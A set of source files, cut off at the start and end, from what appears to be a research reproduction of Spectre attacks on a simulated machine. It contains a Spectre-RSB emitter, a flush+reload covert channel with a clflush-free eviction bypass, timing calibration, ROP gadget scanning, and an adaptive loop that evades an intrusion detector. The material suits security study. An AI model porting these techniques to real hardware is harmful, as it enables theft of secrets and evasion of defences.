                cycles[uarch, mode] = run_cycles
                records[uarch, mode] = run_records
    return timings, cycles, records


def test_obs_overhead_baseline(benchmark, obs_timings):
    timings, cycles, records = benchmark.pedantic(
        lambda: obs_timings, rounds=1, iterations=1
    )
    medians = {key: statistics.median(times)
               for key, times in timings.items()}
    floors = {key: min(times) for key, times in timings.items()}

    overhead = {}
    for uarch in UARCHS:
        # Virtual time is mode-independent: tracing must not change the
        # simulation, only observe it.  The OoO rows additionally pin
        # that the pipeline counters never perturb scheduling.
        assert cycles[uarch, "off"] == cycles[uarch, "filtered"] \
            == cycles[uarch, "full"], uarch
        assert records[uarch, "filtered"] == 0, uarch
        assert records[uarch, "full"] > 0, uarch
        for mode in MODES[1:]:
            overhead[uarch, mode] = (
                floors[uarch, mode] / floors[uarch, "off"] - 1.0
            )

    write_bench_json(
        "obs",
        knobs={"workload": "basicmath", "iterations": dict(ITERATIONS),
               "rounds": ROUNDS, "uarchs": list(UARCHS)},
        runs={
            _row(uarch, mode): {
                "median_s": round(medians[uarch, mode], 4),
                "min_s": round(floors[uarch, mode], 4),
                "overhead_vs_off": round(
                    overhead.get((uarch, mode), 0.0), 4
                ),
            }
            for uarch in UARCHS for mode in MODES
        },
        cycles={uarch: cycles[uarch, "off"] for uarch in UARCHS},
        records_full={uarch: records[uarch, "full"]
                      for uarch in UARCHS},
    )

    lines = [f"obs baseline — basicmath, {os.cpu_count()} CPU(s)"]
    for uarch in UARCHS:
        lines.append(f"  {uarch}: x{ITERATIONS[uarch]}, "
                     f"{cycles[uarch, 'off']} virtual cycles")
        for mode in MODES:
            suffix = ""
            if mode != "off":
                suffix = f" ({100 * overhead[uarch, mode]:+.1f}%)"
            if mode == "full":
                suffix += f", {records[uarch, 'full']} records"
            lines.append(
                f"    {mode:>8}: {floors[uarch, mode]:.3f}s min "
                f"({medians[uarch, mode]:.3f}s median){suffix}"
            )
    publish("obs", "\n".join(lines))

    for uarch in UARCHS:
        benchmark.extra_info[f"overhead_filtered_{uarch}"] = round(
            overhead[uarch, "filtered"], 4
        )
        benchmark.extra_info[f"overhead_full_{uarch}"] = round(
            overhead[uarch, "full"], 4
        )

        # The acceptance bar, per core: tracing *disabled-in-practice*
        # (active tracer, nothing recorded) costs at most 5% on the
        # step loop.
        assert overhead[uarch, "filtered"] <= 0.05, (
            f"{uarch}: filtered tracing overhead "
            f"{100 * overhead[uarch, 'filtered']:.1f}% exceeds the "
            f"5% budget"
        )
