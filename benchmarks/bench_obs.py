"""Benchmark the observability layer: tracing overhead on the CPU loop.

Times a fixed workload (basicmath to completion on a fresh simulated
System) three ways:

* ``off``      — no tracer active (the NULL path every normal run takes),
* ``filtered`` — a Tracer is active but every category is filtered out
  (channels unbound; measures pure bookkeeping: the acceptance bar),
* ``full``     — all categories recorded (the honest cost of ``--trace``).

Records the baseline to ``BENCH_obs.json`` at the repo root.  Like
``BENCH_exec.json``, the numbers are per-host honest: ``cpu_count``
rides along, and the ≤5 % disabled-overhead assertion is checked on
the *median* of repeated runs so one scheduler hiccup cannot fail CI.
"""

import os
import statistics
import time

import pytest

from benchmarks.conftest import publish
from benchmarks.schema import write_bench_json
from repro.kernel.system import System
from repro.obs.tracer import TraceConfig, Tracer, activate
from repro.workloads import get_workload

#: Workload knobs: long enough that per-step cost dominates Tracer
#: construction, short enough to keep the bench under a minute.
ITERATIONS = 400
ROUNDS = 5

MODES = ("off", "filtered", "full")


def _run_workload():
    system = System(seed=0)
    system.install_binary(
        "/bin/w", get_workload("basicmath").build(iterations=ITERATIONS)
    )
    process = system.spawn("/bin/w")
    process.run_to_completion(max_instructions=50_000_000)
    return int(process.cpu.cycles)


def _timed(mode):
    started = time.perf_counter()
    if mode == "off":
        cycles = _run_workload()
        records = 0
    else:
        config = (TraceConfig(categories=())
                  if mode == "filtered" else TraceConfig())
        tracer = Tracer(config)
        with activate(tracer):
            cycles = _run_workload()
        tracer.finalize()
        records = len(tracer.records)
    return time.perf_counter() - started, cycles, records


@pytest.fixture(scope="module")
def obs_timings():
    timings = {mode: [] for mode in MODES}
    cycles = {}
    records = {}
    # Interleave the modes so drift hits all of them equally.
    for _ in range(ROUNDS):
        for mode in MODES:
            elapsed, mode_cycles, mode_records = _timed(mode)
            timings[mode].append(elapsed)
            cycles[mode] = mode_cycles
            records[mode] = mode_records
    return timings, cycles, records


def test_obs_overhead_baseline(benchmark, obs_timings):
    timings, cycles, records = benchmark.pedantic(
        lambda: obs_timings, rounds=1, iterations=1
    )
    medians = {mode: statistics.median(timings[mode]) for mode in MODES}

    # Virtual time is mode-independent: tracing must not change the
    # simulation, only observe it.
    assert cycles["off"] == cycles["filtered"] == cycles["full"]
    assert records["filtered"] == 0
    assert records["full"] > 0

    overhead = {
        mode: medians[mode] / medians["off"] - 1.0 for mode in MODES[1:]
    }
    write_bench_json(
        "obs",
        knobs={"workload": "basicmath", "iterations": ITERATIONS,
               "rounds": ROUNDS},
        runs={
            mode: {
                "median_s": round(medians[mode], 4),
                "overhead_vs_off": round(overhead.get(mode, 0.0), 4),
            }
            for mode in MODES
        },
        cycles=cycles["off"],
        records_full=records["full"],
    )

    lines = [f"obs baseline — basicmath x{ITERATIONS}, "
             f"{cycles['off']} virtual cycles, {os.cpu_count()} CPU(s)"]
    for mode in MODES:
        suffix = ""
        if mode != "off":
            suffix = f" ({100 * overhead[mode]:+.1f}%)"
        if mode == "full":
            suffix += f", {records['full']} records"
        lines.append(f"  {mode:>8}: {medians[mode]:.3f}s{suffix}")
    publish("obs", "\n".join(lines))

    benchmark.extra_info["overhead_filtered"] = round(
        overhead["filtered"], 4
    )
    benchmark.extra_info["overhead_full"] = round(overhead["full"], 4)

    # The acceptance bar: tracing *disabled-in-practice* (active tracer,
    # nothing recorded) costs at most 5% on the CPU step loop.
    assert overhead["filtered"] <= 0.05, (
        f"filtered tracing overhead {100 * overhead['filtered']:.1f}% "
        f"exceeds the 5% budget"
    )
