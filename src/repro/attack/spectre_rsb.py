"""Spectre-RSB: return-stack-buffer speculation (Koruyeh et al., WOOT'18).

A helper function overwrites its own saved return address on the stack
before ``ret``.  Architecturally control transfers to the overwritten
target (skipping the leak code); the hardware RSB, however, still
predicts a return to the original call site — so the leak sequence after
the ``call`` executes *only* on the wrong path, reading the secret and
touching its probe line.
"""

from repro.attack.covert import emit_main_skeleton
from repro.kernel.loader import build_binary

VARIANT_NAME = "spectre_rsb"


def source(config):
    prefix = "srs"
    train_block = ""  # the RSB needs no training; every ret mispredicts
    strike_block = f"""
    ; ---- strike: call redirects architecturally, RSB speculates here ----
    call {prefix}_redirect
    ; speculative-only leak (the RSB-predicted wrong path):
    li   t1, {config.secret_address}
    add  t1, t1, s0
    lb   t2, 0(t1)                     ; transient secret read
    muli t2, t2, {config.stride}
    la   t3, {prefix}_probe
    add  t3, t3, t2
    lw   t3, 0(t3)                     ; secret-dependent cache fill
{prefix}_resume:
"""
    extra_text = f"""
; ---- redirect: smash own return address, forcing an RSB mismatch ----
{prefix}_redirect:
    la   t0, {prefix}_resume
    sw   t0, 0(sp)                     ; overwrite saved return address
    ret                                ; arch -> resume, RSB -> leak code
"""
    return emit_main_skeleton(config, prefix, train_block, strike_block,
                              extra_text)


def build(config):
    tag = "cr" if config.perturb is not None else "plain"
    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
