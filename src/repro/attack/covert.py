"""Flush+reload covert channel: the shared skeleton of every variant.

The channel is Kocher et al.'s: a 256-entry probe array with one cache
line per candidate byte value.  Per secret byte the attack

1. (variant-specific) trains whatever predictor it abuses,
2. flushes every probe line with ``clflush``,
3. (variant-specific) triggers one transient execution that loads
   ``probe[secret_byte * stride]`` on the wrong path,
4. reloads all 256 lines with ``rdcycle`` timing and records the
   fastest — the line the squashed load left behind.

All emitters share a label *prefix* so several attack images can link
the same building blocks without collisions.
"""

from repro.attack.perturb import perturb_source


#: Eviction buffer: twice the (default) L2 so one streaming pass
#: displaces every cached probe line without any clflush.
EVICT_BUFFER_BYTES = 512 * 1024


def emit_data(config, prefix):
    """Probe array + leak output buffer (+ eviction buffer if needed)."""
    evict_data = ""
    if config.flush_method == "evict":
        evict_data = f"""
    .align 6
{prefix}_evict_buf:
    .space {EVICT_BUFFER_BYTES}
"""
    return f"""
.data
    .align 6                  ; the probe must own its cache lines:
{prefix}_probe:               ; sharing line 0 with victim data would
    .space {config.probe_bytes}   ; make candidate 0 always hot
{prefix}_leaked:
    .space {config.secret_length + 4}
{evict_data}
"""


def emit_flush_probe(config, prefix):
    """Clear the probe array (step 2), by clflush or by eviction."""
    if config.flush_method == "evict":
        return f"""
    ; ---- evict the probe array: stream a 2x-L2-sized buffer ----
    ; (no clflush: circumvents the privileged-clflush countermeasure)
    la   t1, {prefix}_evict_buf
    li   t2, {EVICT_BUFFER_BYTES // 64}
{prefix}_flush:
    beq  t2, zero, {prefix}_flush_done
    lw   t3, 0(t1)
    addi t1, t1, 64
    addi t2, t2, -1
    jmp  {prefix}_flush
{prefix}_flush_done:
    mfence
"""
    return f"""
    ; ---- flush the probe array ----
    la   t1, {prefix}_probe
    li   t2, {config.probe_entries}
{prefix}_flush:
    beq  t2, zero, {prefix}_flush_done
    clflush 0(t1)
    addi t1, t1, {config.stride}
    addi t2, t2, -1
    jmp  {prefix}_flush
{prefix}_flush_done:
    mfence
"""


def emit_reload_and_record(config, prefix):
    """Timed reload scan; records argmin-latency candidate (step 4)."""
    return f"""
    ; ---- reload: time every candidate line, keep the fastest ----
    li   t3, 0                ; candidate byte value
    li   a2, 1000000          ; best latency so far
    li   a3, 0                ; best candidate
{prefix}_reload:
    slti t0, t3, {config.probe_entries}
    beq  t0, zero, {prefix}_record
    la   t1, {prefix}_probe
    muli t2, t3, {config.stride}
    add  t1, t1, t2
    mfence
    rdcycle gp
    lw   t2, 0(t1)
    rdcycle lr
    sub  lr, lr, gp
    bge  lr, a2, {prefix}_reload_next
    mov  a2, lr
    mov  a3, t3
{prefix}_reload_next:
    addi t3, t3, 1
    jmp  {prefix}_reload
{prefix}_record:
    la   t1, {prefix}_leaked
    add  t1, t1, s0
    sb   a3, 0(t1)
"""


def emit_perturb_calls(config, prefix):
    """Algorithm-2 invocation(s) per leaked byte (CR-Spectre only)."""
    if config.perturb is None:
        return ""
    calls = "\n".join(
        f"    call {prefix}_pt_perturb"
        for _ in range(config.perturb.calls_per_byte)
    )
    return f"""
    ; ---- dynamic perturbation (Algorithm 2) ----
{calls}
"""


def emit_perturb_routine(config, prefix):
    if config.perturb is None:
        return ""
    return perturb_source(config.perturb, prefix=f"{prefix}_pt")


def emit_main_skeleton(config, prefix, train_block, strike_block,
                       extra_text=""):
    """The complete attack ``main``: repeats x secret-bytes x channel.

    ``train_block``/``strike_block`` are the variant-specific pieces;
    ``extra_text`` carries variant helper routines (victim functions,
    leak gadgets).
    """
    return f"""
.text
main:
    li   s1, {config.repeats}
{prefix}_repeat:
    beq  s1, zero, {prefix}_exit
    li   s0, 0                ; secret byte index
{prefix}_byte_loop:
    slti t0, s0, {config.secret_length}
    beq  t0, zero, {prefix}_report
{train_block}
{emit_flush_probe(config, prefix)}
{strike_block}
{emit_reload_and_record(config, prefix)}
{emit_perturb_calls(config, prefix)}
    addi s0, s0, 1
    jmp  {prefix}_byte_loop

{prefix}_report:
    ; exfiltrate this pass's bytes: write(1, leaked, secret_length)
    li   a0, 1
    la   a1, {prefix}_leaked
    li   a2, {config.secret_length}
    call libc_write
    addi s1, s1, -1
    jmp  {prefix}_repeat

{prefix}_exit:
    li   a0, 0
    call libc_exit
{extra_text}
{emit_data(config, prefix)}
{emit_perturb_routine(config, prefix)}
"""
