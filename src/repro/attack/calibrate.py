"""Covert-channel timing calibration.

Real flush+reload attacks start by measuring the machine's hit/miss
latency distribution to pick a threshold; this module does the same on
the simulated machine: a calibration binary times N cached and N
flushed reloads of a private line, and the analysis recommends the
midpoint threshold plus the achievable margin.

The shipped variants use an argmin reload (no threshold needed), but
calibration remains the right diagnostic when porting the channel to a
different :class:`~repro.cache.hierarchy.CacheConfig`.
"""

import dataclasses
import struct

from repro.errors import BudgetExceededError, CalibrationError
from repro.kernel.loader import build_binary
from repro.kernel.system import System

_ROUNDS = 32

#: Instruction budget for one calibration run — generous (a clean run
#: retires well under 1/10th of this) but finite, so a runaway image
#: trips the watchdog instead of hanging the sweep.
CALIBRATION_BUDGET = 2_000_000

_CALIBRATION_SOURCE = f"""
; time {_ROUNDS} hot reloads and {_ROUNDS} cold reloads of one line
.data
    .align 6
cal_line:
    .word 7
cal_hot:
    .space {4 * _ROUNDS}
cal_cold:
    .space {4 * _ROUNDS}

.text
main:
    ; ---- hot: load, then time an immediate reload ----
    li   s0, 0
cal_hot_loop:
    slti t0, s0, {_ROUNDS}
    beq  t0, zero, cal_cold_init
    la   t1, cal_line
    lw   t2, 0(t1)
    mfence
    rdcycle t3
    lw   t2, 0(t1)
    rdcycle a3
    sub  a3, a3, t3
    la   t1, cal_hot
    shli t2, s0, 2
    add  t1, t1, t2
    sw   a3, 0(t1)
    addi s0, s0, 1
    jmp  cal_hot_loop

    ; ---- cold: flush, then time the reload ----
cal_cold_init:
    li   s0, 0
cal_cold_loop:
    slti t0, s0, {_ROUNDS}
    beq  t0, zero, cal_report
    la   t1, cal_line
    clflush 0(t1)
    mfence
    rdcycle t3
    lw   t2, 0(t1)
    rdcycle a3
    sub  a3, a3, t3
    la   t1, cal_cold
    shli t2, s0, 2
    add  t1, t1, t2
    sw   a3, 0(t1)
    addi s0, s0, 1
    jmp  cal_cold_loop

cal_report:
    li   a0, 1
    la   a1, cal_hot
    li   a2, {8 * _ROUNDS}
    call libc_write
    li   a0, 0
    call libc_exit
"""


@dataclasses.dataclass(frozen=True)
class CalibrationResult:
    """Hit/miss latency statistics and the recommended threshold."""

    hit_latencies: tuple
    miss_latencies: tuple

    @property
    def max_hit(self):
        return max(self.hit_latencies)

    @property
    def min_miss(self):
        return min(self.miss_latencies)

    @property
    def margin(self):
        """Cycles of daylight between the slowest hit and fastest miss."""
        return self.min_miss - self.max_hit

    @property
    def threshold(self):
        """Midpoint threshold; reloads under it are classified 'hit'."""
        return (self.max_hit + self.min_miss) // 2

    @property
    def separable(self):
        """True when hit and miss populations do not overlap."""
        return self.margin > 0

    def describe(self):
        return (
            f"hit: {min(self.hit_latencies)}..{self.max_hit} cycles, "
            f"miss: {self.min_miss}..{max(self.miss_latencies)} cycles, "
            f"threshold={self.threshold}, margin={self.margin}"
        )


def _calibrate_once(system_factory, seed, faults, attempt_counter):
    """One calibration attempt on a fresh machine; may raise transiently."""
    from repro.core.resilience import RUNAWAY_SOURCE, Watchdog

    attempt_counter[0] += 1
    attempt = attempt_counter[0]
    system = system_factory()

    source = _CALIBRATION_SOURCE
    if faults is not None and faults.runaway_fired(
            context=f"calibrate:{attempt}"):
        # The injected image never halts: only the watchdog gets us out.
        source = RUNAWAY_SOURCE
    program = build_binary("calibrate", source)
    system.install_binary("/bin/.calibrate", program)
    process = system.spawn("/bin/.calibrate")
    watchdog = Watchdog(CALIBRATION_BUDGET, label=f"calibrate:{attempt}")
    from repro.obs.tracer import current_tracer
    tracer = current_tracer()
    trace = (tracer.channel("attack", getattr(process.cpu, "trace_clk", 0))
             if tracer.enabled else None)
    ts0 = trace.now() if trace is not None else 0
    try:
        # The instruction cap gets headroom so the watchdog (the typed
        # path) always trips before the silent run-loop cut-off.
        process.run_to_completion(
            max_instructions=2 * CALIBRATION_BUDGET, watchdog=watchdog
        )
        if trace is not None:
            # Covert-channel probe rounds: 2 * _ROUNDS timed reloads.
            trace.complete("attack.calibrate", ts0,
                           attempt=attempt, rounds=2 * _ROUNDS)
    except BudgetExceededError as exc:
        # Per-attempt budget: a fresh attempt gets a fresh image and a
        # fresh budget, so this one is worth retrying (unlike sweep-level
        # budget trips, which stay fatal).
        raise CalibrationError(
            "calibration image overran its instruction budget "
            "(runaway speculation)"
        ) from exc
    if process.fault is not None:
        raise process.fault
    blob = bytes(process.stdout)
    values = struct.unpack(f"<{2 * _ROUNDS}I", blob)
    # Discard each population's warm-up rounds: the first trips pay
    # cold-I-cache fetch stalls *inside* the timed window — the same
    # reason real calibration loops throw away their head samples.
    warmup = 4
    result = CalibrationResult(
        hit_latencies=tuple(values[warmup:_ROUNDS]),
        miss_latencies=tuple(values[_ROUNDS + warmup:]),
    )
    if faults is not None and (
            faults.should_fire("miscalibration", f"calibrate:{attempt}")
            or faults.should_fire("cache_corruption",
                                  f"calibrate:{attempt}")):
        result = faults.corrupt_calibration(result)
    if not result.separable:
        raise CalibrationError(
            f"hit/miss populations overlap ({result.describe()}); "
            f"the covert channel cannot be thresholded",
            calibration=result,
        )
    return result


def calibrate(system=None, seed=0, faults=None, retry_policy=None,
              retrier=None):
    """Run the calibration binary; returns a :class:`CalibrationResult`.

    Pass a configured :class:`System` (or rely on the default built from
    *seed*) to calibrate against non-default cache geometry/latency.

    Calibration is the noisiest step of a real attack, so it runs under
    the resilience layer: a watchdog bounds each attempt's instructions
    (:class:`~repro.errors.BudgetExceededError` on runaway images), an
    inseparable hit/miss split raises a transient
    :class:`~repro.errors.CalibrationError`, and transient failures are
    retried with seeded exponential backoff.  Pass *retrier* (or inspect
    ``calibrate.last_retrier`` after the call) for per-attempt telemetry.
    Fatal machine faults still propagate: a machine that cannot run the
    calibration cannot run the attack either.
    """
    from repro.core.resilience import Retrier, RetryPolicy

    if retrier is None:
        retrier = Retrier(
            policy=retry_policy or RetryPolicy(max_attempts=4, seed=seed)
        )
    calibrate.last_retrier = retrier

    attempt_counter = [0]
    if system is not None:
        # A caller-provided machine is reused across attempts (its state
        # is what we are calibrating); fresh defaults are rebuilt so a
        # transient glitch does not leak into the next attempt.
        system_factory = lambda: system  # noqa: E731
    else:
        system_factory = lambda: System(seed=seed)  # noqa: E731
    return retrier.call(
        _calibrate_once, system_factory, seed, faults, attempt_counter
    )


#: The Retrier used by the most recent :func:`calibrate` call (telemetry).
calibrate.last_retrier = None
