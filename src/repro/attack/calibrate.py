"""Covert-channel timing calibration.

Real flush+reload attacks start by measuring the machine's hit/miss
latency distribution to pick a threshold; this module does the same on
the simulated machine: a calibration binary times N cached and N
flushed reloads of a private line, and the analysis recommends the
midpoint threshold plus the achievable margin.

The shipped variants use an argmin reload (no threshold needed), but
calibration remains the right diagnostic when porting the channel to a
different :class:`~repro.cache.hierarchy.CacheConfig`.
"""

import dataclasses
import struct

from repro.kernel.loader import build_binary
from repro.kernel.system import System

_ROUNDS = 32

_CALIBRATION_SOURCE = f"""
; time {_ROUNDS} hot reloads and {_ROUNDS} cold reloads of one line
.data
    .align 6
cal_line:
    .word 7
cal_hot:
    .space {4 * _ROUNDS}
cal_cold:
    .space {4 * _ROUNDS}

.text
main:
    ; ---- hot: load, then time an immediate reload ----
    li   s0, 0
cal_hot_loop:
    slti t0, s0, {_ROUNDS}
    beq  t0, zero, cal_cold_init
    la   t1, cal_line
    lw   t2, 0(t1)
    mfence
    rdcycle t3
    lw   t2, 0(t1)
    rdcycle a3
    sub  a3, a3, t3
    la   t1, cal_hot
    shli t2, s0, 2
    add  t1, t1, t2
    sw   a3, 0(t1)
    addi s0, s0, 1
    jmp  cal_hot_loop

    ; ---- cold: flush, then time the reload ----
cal_cold_init:
    li   s0, 0
cal_cold_loop:
    slti t0, s0, {_ROUNDS}
    beq  t0, zero, cal_report
    la   t1, cal_line
    clflush 0(t1)
    mfence
    rdcycle t3
    lw   t2, 0(t1)
    rdcycle a3
    sub  a3, a3, t3
    la   t1, cal_cold
    shli t2, s0, 2
    add  t1, t1, t2
    sw   a3, 0(t1)
    addi s0, s0, 1
    jmp  cal_cold_loop

cal_report:
    li   a0, 1
    la   a1, cal_hot
    li   a2, {8 * _ROUNDS}
    call libc_write
    li   a0, 0
    call libc_exit
"""


@dataclasses.dataclass(frozen=True)
class CalibrationResult:
    """Hit/miss latency statistics and the recommended threshold."""

    hit_latencies: tuple
    miss_latencies: tuple

    @property
    def max_hit(self):
        return max(self.hit_latencies)

    @property
    def min_miss(self):
        return min(self.miss_latencies)

    @property
    def margin(self):
        """Cycles of daylight between the slowest hit and fastest miss."""
        return self.min_miss - self.max_hit

    @property
    def threshold(self):
        """Midpoint threshold; reloads under it are classified 'hit'."""
        return (self.max_hit + self.min_miss) // 2

    @property
    def separable(self):
        """True when hit and miss populations do not overlap."""
        return self.margin > 0

    def describe(self):
        return (
            f"hit: {min(self.hit_latencies)}..{self.max_hit} cycles, "
            f"miss: {self.min_miss}..{max(self.miss_latencies)} cycles, "
            f"threshold={self.threshold}, margin={self.margin}"
        )


def calibrate(system=None, seed=0):
    """Run the calibration binary; returns a :class:`CalibrationResult`.

    Pass a configured :class:`System` to calibrate against non-default
    cache geometry/latency; faults propagate (a machine that cannot run
    the calibration cannot run the attack either).
    """
    system = system or System(seed=seed)
    program = build_binary("calibrate", _CALIBRATION_SOURCE)
    system.install_binary("/bin/.calibrate", program)
    process = system.spawn("/bin/.calibrate")
    process.run_to_completion(max_instructions=2_000_000)
    if process.fault is not None:
        raise process.fault
    blob = bytes(process.stdout)
    values = struct.unpack(f"<{2 * _ROUNDS}I", blob)
    # Discard each population's warm-up rounds: the first trips pay
    # cold-I-cache fetch stalls *inside* the timed window — the same
    # reason real calibration loops throw away their head samples.
    warmup = 4
    return CalibrationResult(
        hit_latencies=tuple(values[warmup:_ROUNDS]),
        miss_latencies=tuple(values[_ROUNDS + warmup:]),
    )
