"""Attack toolchain: Spectre variants, ROP injection, dynamic perturbation."""

from repro.attack.calibrate import CalibrationResult, calibrate
from repro.attack.adaptive import (
    AdaptiveAttacker,
    AttemptRecord,
    DETECT_THRESHOLD,
    EVADE_THRESHOLD,
)
from repro.attack.chain import ChainBuilder, RopChain, build_execve_chain
from repro.attack.config import SpectreConfig
from repro.attack.gadgets import Gadget, GadgetScanner, scan_program
from repro.attack.injection import (
    BUFFER_SP_OFFSET,
    FILL_BYTES,
    InjectionPlan,
    plan_execve_injection,
    plan_shellcode_injection,
)
from repro.attack.payload import (
    Payload,
    build_payload,
    payload_total_length,
    plan_string_addresses,
)
from repro.attack.perturb import (
    PerturbParams,
    mutate,
    perturb_source,
    random_params,
)
from repro.attack import (spectre_btb, spectre_rsb, spectre_sbo,
                          spectre_v1)

SPECTRE_VARIANTS = {
    "v1": spectre_v1,
    "rsb": spectre_rsb,
    "sbo": spectre_sbo,
    "btb": spectre_btb,
}


def build_spectre(variant, config):
    """Build an attack binary by variant name ('v1', 'rsb', 'sbo')."""
    try:
        module = SPECTRE_VARIANTS[variant]
    except KeyError:
        raise KeyError(
            f"unknown Spectre variant {variant!r}; "
            f"choose from {sorted(SPECTRE_VARIANTS)}"
        )
    return module.build(config)


__all__ = [
    "CalibrationResult",
    "calibrate",
    "AdaptiveAttacker",
    "AttemptRecord",
    "DETECT_THRESHOLD",
    "EVADE_THRESHOLD",
    "ChainBuilder",
    "RopChain",
    "build_execve_chain",
    "SpectreConfig",
    "Gadget",
    "GadgetScanner",
    "scan_program",
    "BUFFER_SP_OFFSET",
    "FILL_BYTES",
    "InjectionPlan",
    "plan_execve_injection",
    "plan_shellcode_injection",
    "Payload",
    "build_payload",
    "payload_total_length",
    "plan_string_addresses",
    "PerturbParams",
    "mutate",
    "perturb_source",
    "random_params",
    "SPECTRE_VARIANTS",
    "build_spectre",
    "spectre_btb",
    "spectre_rsb",
    "spectre_sbo",
    "spectre_v1",
]
