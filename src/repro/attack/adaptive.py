"""Defense-aware adaptation loop (paper Section II-E, Figure 3).

The attacker observes only what the paper's attacker observes: whether
the HID flagged the attempt, quantified as the detector's accuracy over
the attempt's windows.  Policy:

* accuracy <= ``evade_threshold`` (55 %): evasion succeeded — keep the
  current perturbation variant;
* accuracy >= ``detect_threshold`` (80 %): clearly detected — mutate
  aggressively;
* in between: mutate gently.

Across attempts the attacker also hill-climbs: if a mutation made
detection *worse* (higher accuracy than the best variant seen), the next
proposal restarts from the best-so-far parameters before mutating.
"""

import dataclasses
import random

from repro.attack.perturb import PerturbParams, mutate, random_params
from repro.obs.tracer import current_tracer

EVADE_THRESHOLD = 0.55
DETECT_THRESHOLD = 0.80


@dataclasses.dataclass
class AttemptRecord:
    attempt: int
    params: PerturbParams
    accuracy: float

    @property
    def evaded(self):
        return self.accuracy <= EVADE_THRESHOLD


class AdaptiveAttacker:
    """Chooses the next Algorithm-2 variant from detector feedback."""

    def __init__(self, seed=0, initial_params=None,
                 evade_threshold=EVADE_THRESHOLD,
                 detect_threshold=DETECT_THRESHOLD):
        self.rng = random.Random(seed)
        self.evade_threshold = evade_threshold
        self.detect_threshold = detect_threshold
        self.current = initial_params or PerturbParams()
        self.history = []
        self._best = None  # (accuracy, params)

    def propose(self):
        """Parameters for the next attack attempt."""
        return self.current

    def feedback(self, accuracy):
        """Report the HID's accuracy on the attempt just executed."""
        record = AttemptRecord(
            attempt=len(self.history) + 1,
            params=self.current,
            accuracy=accuracy,
        )
        self.history.append(record)

        if self._best is None or accuracy < self._best[0]:
            self._best = (accuracy, self.current)

        if accuracy <= self.evade_threshold:
            # Evading: stand still; moving could re-expose us.
            current_tracer().event(
                "attack.adapt.decision", "attack", attempt=record.attempt,
                accuracy=accuracy, action="hold",
            )
            return record

        base = self._best[1] if self._best[0] < accuracy else self.current
        if accuracy >= self.detect_threshold:
            aggressiveness = 1.0
        else:
            span = self.detect_threshold - self.evade_threshold
            aggressiveness = 0.3 + 0.7 * (
                (accuracy - self.evade_threshold) / span
            )
        self.current = mutate(base, self.rng, aggressiveness=aggressiveness)
        current_tracer().event(
            "attack.adapt.decision", "attack", attempt=record.attempt,
            accuracy=accuracy, action="mutate",
            aggressiveness=round(aggressiveness, 6),
        )
        return record

    def restart_random(self):
        """Abandon the lineage and draw a fresh random variant."""
        self.current = random_params(self.rng)
        current_tracer().event(
            "attack.adapt.decision", "attack",
            attempt=len(self.history), action="restart",
        )
        return self.current

    @property
    def best(self):
        """(accuracy, params) of the least-detected attempt so far."""
        return self._best

    @property
    def evaded_yet(self):
        return any(record.evaded for record in self.history)
