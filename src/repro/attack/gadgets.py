"""ROP gadget scanner.

Scans the encoded ``.text`` bytes of a binary — exactly what the paper
does with GDB on the compiled victim: "search for all instructions that
end in a ret instruction".  A *gadget* is an instruction-slot-aligned
suffix of the image that reaches a ``ret`` within a few instructions
without passing through a control transfer.  The scanner also provides
the semantic queries the chain builder needs (``pop``-register loaders,
``syscall; ret`` tails).
"""

import dataclasses

from repro.errors import GadgetNotFoundError
from repro.isa.encoding import INSTRUCTION_SIZE, try_decode
from repro.isa.opcodes import CONTROL_OPCODES, Opcode
from repro.isa.registers import register_name


@dataclasses.dataclass(frozen=True)
class Gadget:
    """One usable gadget: address + the instructions it executes."""

    address: int
    instructions: tuple

    @property
    def length(self):
        return len(self.instructions)

    @property
    def stack_words_consumed(self):
        """Words the gadget pops off the stack *before* its final ret."""
        return sum(
            1 for insn in self.instructions[:-1] if insn.opcode == Opcode.POP
        )

    def to_assembly(self):
        return "; ".join(insn.to_assembly() for insn in self.instructions)

    def __str__(self):
        return f"{self.address:#010x}: {self.to_assembly()}"


class GadgetScanner:
    """Find gadgets in a relocated text image."""

    def __init__(self, text_bytes, text_base, max_gadget_length=6):
        self.text_bytes = bytes(text_bytes)
        self.text_base = text_base
        self.max_gadget_length = max_gadget_length
        self._gadgets = None

    def scan(self):
        """Return every gadget (cached after the first call)."""
        if self._gadgets is not None:
            return self._gadgets
        gadgets = []
        slots = len(self.text_bytes) // INSTRUCTION_SIZE
        decoded = [
            try_decode(self.text_bytes, i * INSTRUCTION_SIZE)
            for i in range(slots)
        ]
        for start in range(slots):
            instructions = []
            for offset in range(self.max_gadget_length):
                index = start + offset
                if index >= slots:
                    break
                insn = decoded[index]
                if insn is None:
                    break
                instructions.append(insn)
                if insn.opcode == Opcode.RET:
                    gadgets.append(Gadget(
                        address=self.text_base + start * INSTRUCTION_SIZE,
                        instructions=tuple(instructions),
                    ))
                    break
                if insn.opcode in CONTROL_OPCODES:
                    break
                if insn.opcode in (Opcode.HALT, Opcode.SYSCALL):
                    break
        self._gadgets = gadgets
        return gadgets

    # ---- semantic queries ------------------------------------------------
    def find_pop_sequence(self, registers):
        """Find a gadget that is exactly ``pop r1; ...; pop rN; ret``.

        *registers* is a sequence of register indices, in pop order.
        """
        wanted = tuple(registers)
        for gadget in self.scan():
            body = gadget.instructions
            if len(body) != len(wanted) + 1:
                continue
            if body[-1].opcode != Opcode.RET:
                continue
            if all(
                insn.opcode == Opcode.POP and insn.rd == reg
                for insn, reg in zip(body[:-1], wanted)
            ):
                return gadget
        names = ", ".join(register_name(r) for r in wanted)
        raise GadgetNotFoundError(f"no 'pop {names}; ret' gadget in image")

    def find_pop_register(self, register):
        """Shortest gadget whose net effect loads *register* from the stack.

        Accepts gadgets with extra leading pops (they consume junk words
        the chain builder will pad for), as long as the *last* pop before
        ``ret`` targets the wanted register.
        """
        candidates = []
        for gadget in self.scan():
            body = gadget.instructions
            if body[-1].opcode != Opcode.RET:
                continue
            pops = body[:-1]
            if not pops or any(i.opcode != Opcode.POP for i in pops):
                continue
            if pops[-1].rd == register:
                candidates.append(gadget)
        if not candidates:
            raise GadgetNotFoundError(
                f"no gadget popping {register_name(register)} in image"
            )
        return min(candidates, key=lambda g: g.length)

    def find_syscall_ret(self):
        """A ``syscall``-terminated slot (the kernel-call trampoline)."""
        slots = len(self.text_bytes) // INSTRUCTION_SIZE
        for start in range(slots):
            insn = try_decode(self.text_bytes, start * INSTRUCTION_SIZE)
            if insn is not None and insn.opcode == Opcode.SYSCALL:
                return self.text_base + start * INSTRUCTION_SIZE
        raise GadgetNotFoundError("no syscall instruction in image")

    def gadget_count(self):
        return len(self.scan())

    def unique_gadgets(self):
